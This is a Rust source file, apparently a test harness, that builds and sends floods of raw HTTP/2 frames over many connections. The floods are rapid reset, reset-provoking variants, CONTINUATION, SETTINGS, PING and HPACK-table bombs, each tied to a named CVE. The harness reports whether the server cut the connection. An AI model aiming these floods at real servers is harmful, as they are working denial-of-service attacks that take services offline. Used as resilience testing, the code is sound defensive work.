//! Floods of HTTP/2 frames, written by hand: what each connection writes, and whether it was ended.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{Shutdown, TcpStream};
use std::thread;
use std::time::Duration;

/// What the n-th step of a flood writes.
pub type Step = fn(u32, &mut Vec<u8>);

#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What comes again and again.
    pub name: &'static str,
    /// Comes once, before the steps.
    first: Step,
    step: Step,
    /// A connection must be ended before so many.
    pub steps: u32,
}

/// All of them.
pub const FLOODS: &[Flood] = &[
    // CVE-2023-44487.
    Flood {
        name: "rapid reset",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            frame(out, RST_STREAM, 0, id(n), &[0, 0, 0, 8]);
        },
        steps: 50_000,
    },
    // CVE-2025-8671, by all that makes a server reset a stream.
    Flood {
        name: "reset by an update of the window by nothing",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            frame(out, WINDOW_UPDATE, 0, id(n), &[0; 4]);
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by a window that overflows",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            frame(out, WINDOW_UPDATE, 0, id(n), &[0x7f, 0xff, 0xff, 0xff]);
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by a dependency on itself",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            let [a, b, c, d] = id(n).to_be_bytes();
            frame(out, PRIORITY, 0, id(n), &[a, b, c, d, 0]);
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by a priority of a wrong size",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            frame(out, PRIORITY, 0, id(n), &[0; 4]);
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by HEADERS after the end",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            get(out, id(n));
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by DATA after the end",
        first: nothing,
        step: |n, out| {
            get(out, id(n));
            frame(out, DATA, 0, id(n), &[0; 1]);
        },
        steps: 50_000,
    },
    Flood {
        name: "reset by a length that is wrong",
        first: nothing,
        step: |n, out| {
            // content-length: 1
            frame(out, HEADERS, END_HEADERS, id(n), &[POST, &[0x5c, 1, b'1']].concat());
            frame(out, DATA, END_STREAM, id(n), &[0; 2]);
        },
        steps: 50_000,
    },
    Flood {
        name: "requests that are malformed",
        first: nothing,
        step: |n, out| frame(out, HEADERS, END_STREAM | END_HEADERS, id(n), &[0x82, 0x84]),
        steps: 50_000,
    },
    Flood {
        name: "more streams than are allowed",
        first: nothing,
        step: |n, out| frame(out, HEADERS, END_HEADERS, id(n), POST),
        steps: 50_000,
    },
    // CVE-2024-30255, CVE-2024-27316.
    Flood {
        name: "CONTINUATION of a field",
        first: |_, out| frame(out, HEADERS, END_STREAM, 1, GET),
        step: |_, out| frame(out, CONTINUATION, 0, 1, &[0x40, 1, b'x', 1, b'y']),
        steps: 50_000,
    },
    Flood {
        name: "CONTINUATION of nothing",
        first: |_, out| frame(out, HEADERS, END_STREAM, 1, GET),
        step: |_, out| frame(out, CONTINUATION, 0, 1, &[]),
        steps: 50_000,
    },
    Flood {
        name: "CONTINUATION of much",
        first: |_, out| frame(out, HEADERS, END_STREAM, 1, GET),
        step: |_, out| frame(out, CONTINUATION, 0, 1, &[0x82; 16_384]),
        steps: 2_000,
    },
    Flood {
        name: "SETTINGS",
        first: nothing,
        step: |_, out| frame(out, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        steps: 100_000,
    },
    Flood {
        name: "SETTINGS without content",
        first: nothing,
        step: |_, out| frame(out, SETTINGS, 0, 0, &[]),
        steps: 100_000,
    },
    Flood {
        name: "answers to SETTINGS",
        first: nothing,
        step: |_, out| frame(out, SETTINGS, ACK, 0, &[]),
        steps: 100_000,
    },
    Flood { name: "PING", first: nothing, step: |_, out| frame(out, PING, 0, 0, &[0; 8]), steps: 100_000 },
    Flood { name: "answers to PING", first: nothing, step: |_, out| frame(out, PING, ACK, 0, &[0; 8]), steps: 100_000 },
    Flood {
        name: "PRIORITY",
        first: nothing,
        step: |n, out| frame(out, PRIORITY, 0, id(n), &[0, 0, 0, 0, 1]),
        steps: 100_000,
    },
    Flood { name: "unknown frames", first: nothing, step: |_, out| frame(out, 0xbe, 0, 0, &[0; 8]), steps: 100_000 },
    Flood {
        name: "GOAWAY",
        first: |_, out| get(out, 1),
        step: |_, out| frame(out, GO_AWAY, 0, 0, &[0; 8]),
        steps: 100_000,
    },
    Flood {
        name: "DATA without data",
        first: |_, out| frame(out, HEADERS, END_HEADERS, 1, POST),
        step: |_, out| frame(out, DATA, 0, 1, &[]),
        steps: 100_000,
    },
    Flood {
        name: "DATA of padding",
        first: |_, out| frame(out, HEADERS, END_HEADERS, 1, POST),
        step: |_, out| frame(out, DATA, PADDED, 1, &[0]),
        steps: 100_000,
    },
    // CVE-2026-47774, CVE-2026-49975: an entry of the table, and its index again and again.
    Flood {
        name: "bomb of large fields",
        first: |_, out| {
            let entry = [GET, &[0x40, 1, b'x', 0x7f, 0xbd, 0x1d], &[b'y'; 3900][..]].concat();
            frame(out, HEADERS, END_STREAM | END_HEADERS, 1, &entry);
        },
        step: |n, out| frame(out, HEADERS, END_STREAM | END_HEADERS, id(n + 1), &[GET, &[0xbe; 16_000][..]].concat()),
        steps: 5_000,
    },
    Flood {
        name: "bomb of small fields",
        first: nothing,
        step: |n, out| {
            let crumbs = [0x60, 1, b'c'].repeat(5_000);
            frame(out, HEADERS, END_STREAM | END_HEADERS, id(n), &[GET, &crumbs].concat());
        },
        steps: 5_000,
    },
];

impl Flood {
    /// Floods from so many connections at once, which share the steps; returns how many of them the other side ended. One on which nothing
    /// comes for so long after the flood has not been ended.
    ///
    /// # Panics
    /// When nothing accepts connections there.
    #[must_use]
    pub fn run(&self, address: &str, connections: u32, patience: Duration) -> usize {
        self.flood(address, connections, Some(patience))
    }

    /// The same from clients that leave afterwards, so that nothing is waited for.
    ///
    /// # Panics
    /// When nothing accepts connections there.
    pub fn run_and_leave(&self, address: &str, connections: u32) {
        self.flood(address, connections, None);
    }

    fn flood(&self, address: &str, connections: u32, patience: Option<Duration>) -> usize {
        let steps = (self.steps / connections).max(AT_LEAST.min(self.steps));
        thread::scope(|scope| {
            let one = || self.is_ended(address, steps, patience);
            let all: Vec<_> = (0..connections).map(|_| scope.spawn(one)).collect();
            all.into_iter().map(|one| one.join().expect("no thread panicked")).filter(|ended| *ended).count()
        })
    }

    /// Says whether a connection that writes so many steps was ended by the other side.
    fn is_ended(&self, address: &str, steps: u32, patience: Option<Duration>) -> bool {
        let limit = Some(patience.unwrap_or(PATIENCE));
        let mut stream = TcpStream::connect(address).expect("the target accepts connections");
        stream.set_write_timeout(limit).expect("a limit that is not 0");
        stream.set_read_timeout(limit).expect("a limit that is not 0");
        let answers = stream.try_clone().expect("a socket has two ends");
        let reader = thread::spawn(move || read_to_end(answers));
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(&mut out, SETTINGS, 0, 0, &[]);
        (self.first)(0, &mut out);
        for n in 0..steps {
            (self.step)(n, &mut out);
            if out.len() >= AT_ONCE {
                if stream.write_all(&out).is_err() {
                    break;
                }
                out.clear();
            }
        }
        // Both fail where the flood has been ended already.
        let _ = stream.write_all(&out);
        if patience.is_none() {
            let _ = stream.shutdown(Shutdown::Both);
        }
        reader.join().expect("no thread panicked")
    }
}

/// Says whether the end comes.
fn read_to_end(mut answers: TcpStream) -> bool {
    let mut buffer = [0; 16_384];
    loop {
        match answers.read(&mut buffer) {
            Ok(0) => return true,
            Ok(_) => {}
            // Only silence means that it goes on.
            Err(error) => return !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
        }
    }
}

fn nothing(_: u32, _: &mut Vec<u8>) {}

/// The n-th stream of a client.
fn id(n: u32) -> u32 {
    2 * n + 1
}

fn get(out: &mut Vec<u8>, id: u32) {
    frame(out, HEADERS, END_STREAM | END_HEADERS, id, GET);
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, id: u32, payload: &[u8]) {
    out.extend_from_slice(&u32::try_from(payload.len()).expect("a frame is small").to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET http://a/`.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];
/// The same with POST.
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'a'];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

/// Frames are written in batches, bytes.
const AT_ONCE: usize = 8 * 1024;
/// Whoever leaves waits for so long at most.
const PATIENCE: Duration = Duration::from_secs(10);
/// Of many connections each takes at least so many steps, or less would be no flood.
const AT_LEAST: u32 = 6000;
